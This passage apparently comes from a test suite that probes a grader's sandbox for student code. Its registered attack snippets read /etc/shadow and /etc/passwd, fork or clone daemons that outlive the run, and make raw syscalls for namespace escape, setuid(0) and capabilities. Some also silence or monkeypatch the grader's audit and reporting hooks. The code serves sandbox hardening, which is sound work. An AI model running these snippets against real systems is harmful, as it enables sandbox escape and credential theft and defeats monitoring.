        if _pa_ok(hooks):
            _pa_note("hook candidates", "ok", [h.__qualname__ for h in hooks][:40])
            for f in hooks:
                _pa_try("silence " + f.__qualname__, _pa_silence_function, f, saved, cells, globs, codes, protect)
        _pa_forbidden_steps("after gc silencing: ")
    finally:
        _pa_restore(saved, cells, globs, codes)
''', needs=('FORBIDDEN',))

attack('stw_traceback_frames_py', SILENCE_TOOLS + r'''
def _pa_attack():
    import gc
    import types
    me = _pa_os.path.abspath(__file__)
    saved, cells, globs, codes = [], [], [], []
    protect = _pa_protected()
    frames = []
    probes = (lambda: open("/etc/shadow", "rb").close(),
              lambda: __import__("socket").socket().close(),
              lambda: _pa_os.listdir("/proc/1"))
    for probe in probes:
        try:
            probe()
        except BaseException as e:
            chain = [e] + [x for x in (e.__context__, e.__cause__) if x is not None]
            for ex in chain:
                tb = ex.__traceback__
                while tb is not None:
                    frames.append(tb.tb_frame)
                    tb = tb.tb_next
    libdirs = tuple({_pa_os.path.dirname(_pa_os.__file__), _pa_sys.prefix, _pa_sys.base_prefix})
    try:
        for fr in frames:
            co = fr.f_code
            fn = co.co_filename or ""
            if fn == me:
                continue
            if fn.startswith(libdirs) and not any(w in fn for w in ("grader", "sandbox", "audit", "hook")):
                continue  # the stdlib's own frames (socket.py, ...) are not the witness
            _pa_note("foreign frame", "seen", "%s:%s" % (co.co_filename, co.co_name))
            for k, v in list(fr.f_locals.items()):
                _pa_clear(v, saved, protect)
            g = fr.f_globals
            for name in co.co_names:
                v = g.get(name)
                if v is None or callable(v) or isinstance(v, type(_pa_sys)):
                    continue
                if not _pa_clear(v, saved, protect) and isinstance(v, (frozenset, tuple)) and v:
                    globs.append((g, name, v))
                    g[name] = type(v)()
            for f in _pa_try("referrers of " + co.co_name, gc.get_referrers, co) or ():
                if isinstance(f, types.FunctionType):
                    _pa_try("silence " + f.__qualname__, _pa_silence_function, f, saved, cells, globs, codes,
                            protect)
        _pa_forbidden_steps("after traceback silencing: ")
    finally:
        _pa_restore(saved, cells, globs, codes)
        frames.clear()
''', needs=('FORBIDDEN',))

attack('stw_dup2_pipes_py', r'''
def _pa_attack():
    import stat
    sink = _pa_os.open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_sink"),
                       _pa_os.O_WRONLY | _pa_os.O_CREAT | _pa_os.O_APPEND, 0o600)
    silenced = []
    for fd in range(3, 1024):
        if fd == sink:
            continue
        try:
            st = _pa_os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode):  # pipes, not sockets
            try:
                _pa_os.dup2(sink, fd)
                silenced.append(fd)
            except BaseException as e:
                _pa_note("dup2 over %d" % fd, "refused", repr(e))
    _pa_note("dup2 sink over FIFOs", "ok", silenced)
    _pa_forbidden_steps("after dup2 over the pipes: ")
''', needs=('FORBIDDEN',))

attack('stw_fake_library_filename_py', r'''
_PA_FAKE_SRC = """
def run(tag, results):
    for p in ("/etc/passwd", "/etc/shadow"):
        try:
            with open(p, "rb") as fh:
                results.append(("read " + p, len(fh.read(64))))
        except BaseException as e:
            results.append(("refused read " + p, repr(e)))
    try:
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.close()
        results.append(("opened an AF_INET socket", 1))
    except BaseException as e:
        results.append(("refused socket", repr(e)))
    try:
        import subprocess
        subprocess.run(["/bin/true"], timeout=3)
        results.append(("started /bin/true", 1))
    except BaseException as e:
        results.append(("refused spawn", repr(e)))
"""


def _pa_attack():
    import threading
    import numpy
    npdir = _pa_os.path.dirname(numpy.__file__)
    names = [numpy.__file__,
             _pa_os.path.join(npdir, "core", "_probe_a_internal.py"),
             _pa_os.path.join(_pa_sys.prefix, "lib", "python%d.%d" % _pa_sys.version_info[:2], "site-packages",
                              "numpy", "probe_a.py"),
             "/usr/lib/python3/dist-packages/matplotlib/font_manager.py",
             "<frozen importlib._bootstrap>",
             "<frozen posixpath>"]
    for fname in names:
        ns = {"__name__": "numpy._probe_a", "__file__": fname}
        code = _pa_try("compile as " + fname, compile, _PA_FAKE_SRC, fname, "exec")
        if not _pa_ok(code):
            continue
        exec(code, ns)
        results = []
        _pa_try("run as " + fname, ns["run"], fname, results)
        t = threading.Thread(target=ns["run"], args=(fname + " [thread]", results), name="probe_a_fake")
        t.start()
        t.join(6)
        for label, v in results:
            _pa_note(fname + ": " + label, "result", v)
            if not label.startswith("refused") and v:
                _pa_breach("disguised as %s: %s" % (fname, label))
''')

attack('stw_stdlib_trampoline_py', r'''
def _pa_attack():
    import importlib
    mods = {}
    for name in ("codecs", "concurrent.futures", "importlib.machinery", "linecache", "pathlib", "shutil",
                 "socket", "subprocess", "threading", "numpy"):
        m = _pa_try("import " + name, importlib.import_module, name)
        if _pa_ok(m):
            mods[name] = m
    codecs, linecache, pathlib, shutil, socket, subprocess, numpy = (
        mods.get(n) for n in ("codecs", "linecache", "pathlib", "shutil", "socket", "subprocess", "numpy"))
    here = _pa_os.getcwd()

    def check(label, r):
        if _pa_ok(r) and r:
            _pa_breach("through %s" % label)
            if hasattr(r, "close"):
                _pa_try("close", r.close)
    # innermost frame in the stdlib / numpy, student frames below
    mach = mods.get("importlib.machinery")
    check("pathlib.read_bytes", _pa_try("pathlib", lambda: pathlib.Path("/etc/passwd").read_bytes()))
    check("shutil.copyfile", _pa_try("shutil.copyfile", lambda: shutil.copyfile(
        "/etc/passwd", _pa_os.path.join(here, "probe_a_passwd_copy"))))
    check("linecache.getlines", _pa_try("linecache", lambda: linecache.getlines("/etc/passwd")))
    check("codecs.open", _pa_try("codecs.open", lambda: codecs.open("/etc/passwd", "rb").read(64)))
    check("SourceFileLoader.get_data", _pa_try("importlib get_data", lambda: mach.SourceFileLoader(
        "probe_a_x", "/etc/passwd").get_data("/etc/passwd")))
    check("numpy.fromfile", _pa_try("numpy.fromfile", lambda: numpy.fromfile(
        "/etc/passwd", dtype=numpy.uint8, count=64).size))
    r = _pa_try("numpy.vectorize(open)", lambda: numpy.vectorize(open, otypes=[object])(["/etc/passwd"])[0])
    check("numpy.vectorize(open)", r)
    # no student frame at all: a pool thread calls the library function directly
    calls = []
    if pathlib:
        calls += [("pool pathlib.read_bytes", pathlib.Path("/etc/shadow").read_bytes, ()),
                  ("pool pathlib.read_bytes passwd", pathlib.Path("/etc/passwd").read_bytes, ())]
    if socket:
        calls += [("pool socket.socket", socket.socket, (socket.AF_INET, socket.SOCK_STREAM)),
                  ("pool socket.socketpair", socket.socketpair, ())]
    if subprocess:
        calls += [("pool subprocess.run", subprocess.run, (["/bin/true"],))]
    calls += [("pool os.listdir /proc", _pa_os.listdir, ("/proc",))]
    cf = mods.get("concurrent.futures")
    if cf is None:
        threading = mods.get("threading")
        for label, fn, args in calls:  # results unseen, the attempts are still made
            if threading:
                t = threading.Thread(target=fn, args=args, name="probe_a_trampoline")
                t.start()
                t.join(6)
        return
    with cf.ThreadPoolExecutor(1) as ex:
        jobs = [(label, ex.submit(fn, *args)) for label, fn, args in calls]
        for label, fut in jobs:
            try:
                r = fut.result(timeout=6)
            except BaseException as e:
                _pa_note(label, "refused", repr(e))
                continue
            _pa_note(label, "ok", repr(r)[:100])
            if isinstance(r, tuple):
                for s in r:
                    _pa_try("close", s.close)
                _pa_breach("through " + label)
            else:
                check(label, r)
''')

attack('stw_monkeypatch_py', r'''
def _pa_attack():
    import builtins
    import posix
    saved = []

    def patch(obj, name, value):
        try:
            old = getattr(obj, name)
            setattr(obj, name, value)
            saved.append((obj, name, old))
        except BaseException as e:
            _pa_note("patch " + name, "refused", repr(e))
    fake_write = lambda fd, data: len(data)
    noop = lambda *a, **k: None
    patch(_pa_os, "write", fake_write)
    patch(posix, "write", fake_write)
    patch(_pa_os, "fsync", noop)
    patch(_pa_sys, "audit", noop)
    patch(builtins, "print", noop)
    words = ("report", "refus", "record", "notify", "send", "emit", "write", "log", "witness", "violation",
             "deny", "audit", "hook", "pipe")
    for name, mod in list(_pa_sys.modules.items()):
        if not (name == "grader" or name.startswith("grader.")) or mod is None:
            continue
        for k, v in list(vars(mod).items()):
            if callable(v) and not isinstance(v, type) and any(w in k.lower() for w in words):
                patch(mod, k, noop)
    _pa_try("addaudithook(swallow)", _pa_sys.addaudithook, lambda ev, args: None)
    try:
        _pa_forbidden_steps("after monkeypatching: ")
    finally:
        for obj, name, old in reversed(saved):
            try:
                setattr(obj, name, old)
            except BaseException:
                pass
''', needs=('FORBIDDEN',))

attack('stw_sigsys_handler_native', r'''
def _pa_attack():
    import signal
    old = _pa_try("signal(SIGSYS, ignore-handler)", signal.signal, signal.SIGSYS, lambda s, f: None)
    _pa_try("block SIGSYS", signal.pthread_sigmask, signal.SIG_BLOCK, {signal.SIGSYS})
    try:
        _pa_scall("socket(AF_INET) under a SIGSYS handler", 41, 2, 1, 0, mode="kill")
        _pa_scall("unshare(CLONE_NEWUSER) under a SIGSYS handler", 272, 0x10000000, mode="kill")
        _pa_scall("keyctl(GET_KEYRING_ID) under a SIGSYS handler", 250, 0, -3, 0, mode="kill")
        try:
            sc = _pa_sc()
        except BaseException:
            sc = None
        if sc is not None:
            r = sc(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD): fork semantics
            if r == 0:
                _pa_os._exit(0)  # child: leave at once
            _pa_note("clone under a SIGSYS handler", "returned", r)
            _pa_breach("clone(SIGCHLD) returned %r under a SIGSYS handler" % r)
            if r > 0:
                _pa_try("reap", _pa_os.waitpid, r, 0)
    finally:
        _pa_try("unblock SIGSYS", signal.pthread_sigmask, signal.SIG_UNBLOCK, {signal.SIGSYS})
        if _pa_ok(old):
            _pa_try("restore SIGSYS handler", signal.signal, signal.SIGSYS, old)
''', needs=('NATIVE',))

# ============================================================== outlive
attack('out_thread_ownfolder_py', r'''
def _pa_linger(path):
    alive = _pa_deadline(7.0)
    i = 0
    while alive():
        try:
            with open(path, "a") as fh:
                fh.write("%d\n" % i)
        except BaseException:
            pass
        i += 1
        _pa_time.sleep(0.5)


def _pa_attack():
    import threading
    path = _pa_os.path.join(_pa_os.getcwd(), "probe_a_linger.txt")
    threading.Thread(target=_pa_linger, args=(path,), name="probe_a_linger", daemon=False).start()
''', canary=False)

attack('out_fork_daemon_py', r'''
def _pa_attack():
    pid = _pa_os.fork()
    if pid == 0:
        try:
            try:
                _pa_os.setsid()
            except BaseException:
                pass
            if _pa_os.fork() == 0:
                try:
                    _pa_time.sleep(2.5)
                    _pa_time.sleep(2.5)
                    fd = _pa_os.open("/tmp/probe_a_outlive_fork_%d" % _pa_os.getpid(),
                                     _pa_os.O_WRONLY | _pa_os.O_CREAT, 0o644)
                    _pa_os.write(fd, b"probe_a: a forked daemon outlived its submission\n")
                    _pa_os.close(fd)
                except BaseException:
                    pass
                finally:
                    _pa_os._exit(0)
        except BaseException:
            pass
        finally:
            _pa_os._exit(0)
    _pa_breach("os.fork allowed (child %d)" % pid)
    _pa_try("waitpid", _pa_os.waitpid, pid, 0)
''')

attack('out_clone_native', r'''
def _pa_attack():
    sc = _pa_sc()
    r = sc(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD), no stack: fork semantics without libc fork()
    if r == 0:
        try:
            sc(112)  # setsid
            _pa_time.sleep(2.5)
            _pa_time.sleep(2.5)
            fd = _pa_os.open("/tmp/probe_a_outlive_clone_%d" % _pa_os.getpid(),
                             _pa_os.O_WRONLY | _pa_os.O_CREAT, 0o644)
            _pa_os.write(fd, b"probe_a: a cloned child outlived its submission\n")
            _pa_os.close(fd)
        except BaseException:
            pass
        finally:
            _pa_os._exit(0)
    _pa_note("clone(SIGCHLD)", "returned", r)
    _pa_breach("raw clone(SIGCHLD) returned %r (%s): the seccomp filter did not kill the worker"
               % (r, getattr(sc, "route", "?")))
''', needs=('NATIVE',))

attack('out_sysv_objects_native', r'''
def _pa_attack():
    _pa_scall("shmget(IPC_CREAT), never removed", 29, 0x70611001, 4096, 0o1000 | 0o600, mode="kill")
    _pa_scall("msgget(IPC_CREAT), never removed", 68, 0x70611002, 0o1000 | 0o600, mode="kill")
    _pa_scall("semget(IPC_CREAT), never removed", 64, 0x70611003, 4, 0o1000 | 0o600, mode="kill")
    _pa_scall("shmget(IPC_PRIVATE), never removed", 29, 0, 4096, 0o1000 | 0o600, mode="kill")
''', needs=('NATIVE',))

attack('out_tmp_files_py', r'''
def _pa_attack():
    import tempfile

    def w(p):
        with open(p, "w") as fh:
            fh.write("probe_a: left behind\n")

    def o(p):
        fd = _pa_os.open(p, _pa_os.O_WRONLY | _pa_os.O_CREAT | _pa_os.O_EXCL, 0o644)
        _pa_os.close(fd)
    for root in ("/tmp", "/var/tmp", "/dev/shm"):
        p = root + "/probe_a_outlive_file.txt"
        if _pa_ok(_pa_try("write " + p, w, p)):
            _pa_breach("left " + p)
        p = root + "/probe_a_outlive_osopen.txt"
        if _pa_ok(_pa_try("os.open " + p, o, p)):
            _pa_breach("left " + p)
        p = root + "/probe_a_outlive_dir"
        if _pa_ok(_pa_try("mkdir " + p, _pa_os.mkdir, p)):
            _pa_breach("left " + p)
    r = _pa_try("mkstemp in /tmp", tempfile.mkstemp, prefix="probe_a_outlive_", dir="/tmp")
    if _pa_ok(r):
        _pa_os.close(r[0])
        _pa_breach("left " + r[1])
''')

attack('out_spawn_setsid_py', r'''
def _pa_attack():
    if _pa_ok(_pa_try("posix_spawn(setsid) sleep 3", _pa_os.posix_spawn, "/bin/sleep", ["sleep", "3"], {},
                      setsid=True)):
        _pa_breach("posix_spawn allowed")

    def popen():
        import subprocess
        return subprocess.Popen(["/bin/sleep", "3"], start_new_session=True).pid
    if _pa_ok(_pa_try("Popen(start_new_session)", popen)):
        _pa_breach("subprocess.Popen allowed")
    if _pa_ok(_pa_try("spawnv P_NOWAIT", _pa_os.spawnv, _pa_os.P_NOWAIT, "/bin/sleep", ["sleep", "2"])):
        _pa_breach("os.spawnv allowed")
''')

# ============================================================== escape (native)
attack('esc_unshare_mount', r'''
def _pa_attack():
    mnt = _pa_os.path.join(_pa_os.getcwd(), "probe_a_mnt")
    _pa_try("mkdir own probe_a_mnt", _pa_os.mkdir, mnt)
    tb, ta = _pa_cbuf(b"tmpfs\0")
    nb, na = _pa_cbuf(b"none\0")
    mb, ma = _pa_cbuf(mnt.encode() + b"\0")
    r = _pa_scall("mount(tmpfs on own folder)", 165, na, ma, ta, 0, 0, mode="kill")
    if r == 0:
        _pa_scall("umount2", 166, ma, 2, mode="none")
    r = _pa_scall("unshare(CLONE_NEWUSER|CLONE_NEWNS)", 272, 0x10000000 | 0x00020000, mode="kill")
    if r == 0:
        r2 = _pa_scall("mount(tmpfs) in the new namespace", 165, na, ma, ta, 0, 0, mode="kill")
        if r2 == 0:
            _pa_scall("umount2", 166, ma, 2, mode="none")
    _pa_scall("unshare(CLONE_NEWNET)", 272, 0x40000000, mode="kill")
    _pa_scall("unshare(CLONE_NEWNS)", 272, 0x00020000, mode="kill")
    fd = _pa_scall("fsopen(tmpfs)", 430, ta, 0, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
    rb, ra = _pa_cbuf(b"/\0")
    fd = _pa_scall("open_tree(/, OPEN_TREE_CLONE)", 428, -100, ra, 1, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
''', needs=('NATIVE',))

attack('esc_setns', r'''
def _pa_attack():
    for ns, flag in (("mnt", 0x00020000), ("net", 0x40000000), ("user", 0x10000000)):
        p = "/proc/1/ns/" + ns
        fd = _pa_try("open " + p, _pa_os.open, p, _pa_os.O_RDONLY)
        if _pa_ok(fd):
            _pa_breach("opened " + p)
            _pa_scall("setns(pid 1 %s)" % ns, 308, fd, flag, mode="kill")
            _pa_try("close", _pa_os.close, fd)
    fd = _pa_try("open /proc/self/ns/net", _pa_os.open, "/proc/self/ns/net", _pa_os.O_RDONLY)
    if _pa_ok(fd):
        _pa_scall("setns(own net)", 308, fd, 0x40000000, mode="kill")
        _pa_try("close", _pa_os.close, fd)
    pfd = _pa_scall("pidfd_open(ppid)", 434, _pa_os.getppid(), 0, mode="kill")
    if pfd is not None and pfd >= 0:
        _pa_scall("setns(pidfd of the parent, NEWNS|NEWNET)", 308, pfd, 0x00020000 | 0x40000000, mode="kill")
    _pa_scall("setns(-1, 0)", 308, -1, 0, mode="kill")
''', needs=('NATIVE',))

attack('esc_keyctl', r'''
def _pa_attack():
    tb, ta = _pa_cbuf(b"user\0")
    db, da = _pa_cbuf(b"probe_a_key\0")
    pb, pa = _pa_cbuf(b"probe_a payload")
    kid = _pa_scall("add_key(user, session keyring)", 248, ta, da, pa, 15, -3, mode="kill")
    if kid is not None and kid > 0:
        _pa_scall("keyctl(UNLINK)", 250, 9, kid, -3, mode="none")
    _pa_scall("keyctl(GET_KEYRING_ID, session)", 250, 0, -3, 0, mode="kill")
    nb, na = _pa_cbuf(b"probe_a_nokey\0")
    _pa_scall("request_key", 249, ta, na, 0, 0, mode="kill")
    rb, ra = _pa_cbuf(b"probe_a_ring\0")
    _pa_scall("keyctl(JOIN_SESSION_KEYRING)", 250, 1, ra, mode="kill")
''', needs=('NATIVE',), where='G')

attack('esc_bpf_perf', r'''
def _pa_attack():
    import struct
    mb, ma = _pa_cbuf(struct.pack("=IIIII", 2, 4, 4, 1, 0) + b"\0" * 100)
    fd = _pa_scall("bpf(BPF_MAP_CREATE array)", 321, 0, ma, 72, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
    ib, ia = _pa_cbuf(bytes.fromhex("b700000000000000" "9500000000000000"))
    lb, la = _pa_cbuf(b"GPL\0")
    pb, pa = _pa_cbuf(struct.pack("=IIQQ", 1, 2, ia, la) + b"\0" * 120)
    fd = _pa_scall("bpf(BPF_PROG_LOAD socket filter)", 321, 5, pa, 128, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
    eb, ea = _pa_cbuf(struct.pack("=IIQ", 1, 128, 0) + b"\0" * 112)
    fd = _pa_scall("perf_event_open(software cpu clock, self)", 298, ea, 0, -1, -1, 0, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
''', needs=('NATIVE',), where='compgraph')

attack('esc_io_uring', r'''
def _pa_attack():
    pb, pa = _pa_cbuf(120)
    fd = _pa_scall("io_uring_setup(8)", 425, 8, pa, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
''', needs=('NATIVE',))

attack('esc_userfaultfd', r'''
def _pa_attack():
    for label, flags in (("userfaultfd(O_CLOEXEC|O_NONBLOCK)", 0o2000000 | 0o4000),
                         ("userfaultfd(UFFD_USER_MODE_ONLY)", 0o2000000 | 1)):
        fd = _pa_scall(label, 323, flags, mode="kill")
        if fd is not None and fd >= 0:
            _pa_try("close", _pa_os.close, fd)
''', needs=('NATIVE',))

attack('esc_ptrace_traceme', r'''
def _pa_attack():
    _pa_scall("ptrace(PTRACE_TRACEME)", 101, 0, 0, 0, 0, mode="kill")
    fd = _pa_scall("socket(AF_INET) after TRACEME", 41, 2, 1, 0, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close", _pa_os.close, fd)
    _pa_scall("unshare(CLONE_NEWNS) after TRACEME", 272, 0x00020000, mode="kill")
''', needs=('NATIVE',))

attack('esc_open_by_handle', r'''
def _pa_attack():
    import struct
    mount_fds = []
    for d in (_pa_os.getcwd(), _pa_os.path.dirname(_pa_os.__file__), "/"):
        fd = _pa_try("open dir " + d, _pa_os.open, d, _pa_os.O_RDONLY | _pa_os.O_DIRECTORY)
        if _pa_ok(fd):
            mount_fds.append(fd)
    checkout = _pa_os.path.dirname(_pa_os.path.dirname(_pa_sys.prefix))
    for t in ("/etc/passwd", "/etc/shadow", checkout):
        hb, ha = _pa_cbuf(struct.pack("=Ii", 128, 0) + b"\0" * 128)
        mb, ma = _pa_cbuf(8)
        tb, ta = _pa_cbuf(t.encode() + b"\0")
        if _pa_scall("name_to_handle_at(%s)" % t, 303, -100, ta, ha, ma, 0, mode="none") != 0:
            continue
        is_dir = _pa_os.path.isdir(t)
        for mfd in mount_fds:
            flags = _pa_os.O_RDONLY | (_pa_os.O_DIRECTORY if is_dir else 0)
            fd = _pa_scall("open_by_handle_at(%s)" % t, 304, mfd, ha, flags, mode="none")
            if fd is None or fd < 0:
                continue
            try:
                if is_dir:
                    got = _pa_try("listdir via handle", _pa_os.listdir, fd)
                else:
                    got = _pa_try("read via handle", _pa_os.read, fd, 64)
                if _pa_ok(got) and got:
                    _pa_breach("read %s through open_by_handle_at" % t)
            finally:
                _pa_try("close", _pa_os.close, fd)
            break
    for fd in mount_fds:
        _pa_try("close", _pa_os.close, fd)
''', needs=('NATIVE',))

attack('esc_identity', r'''
def _pa_attack():
    import struct
    _pa_scall("setuid(0)", 105, 0, mode="kill")
    _pa_scall("setgid(0)", 106, 0, mode="kill")
    _pa_scall("setgroups(0, NULL)", 116, 0, 0, mode="kill")
    hb, ha = _pa_cbuf(struct.pack("=Ii", 0x20080522, 0))
    db, da = _pa_cbuf(struct.pack("=III", 0xFFFFFFFF, 0xFFFFFFFF, 0) * 2)
    _pa_scall("capset(every capability)", 126, ha, da, mode="kill")
    eb, ea = _pa_cbuf(b"\0")
    _pa_scall("finit_module(-1)", 313, -1, ea, 0, mode="kill")
    _pa_scall("init_module(NULL, 0)", 175, 0, 0, ea, mode="kill")
''', needs=('NATIVE',))
